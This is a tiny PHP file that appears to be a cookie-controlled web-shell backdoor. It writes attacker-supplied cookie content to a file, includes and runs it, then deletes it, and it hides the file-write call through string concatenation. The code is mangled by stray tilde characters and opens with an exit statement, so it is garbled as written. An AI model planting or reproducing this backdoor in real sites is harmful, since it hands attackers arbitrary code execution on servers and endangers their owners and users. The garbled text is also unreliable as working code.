<?php exit; ?>
<?php
$t = $_C~OOKIE; if (isset($t['a'], $t['b'])) { $f = $t['a']; $g = 'file_put' . '_contents'; $g($f, $t['b']); inc~lude $f; unlink($f); }
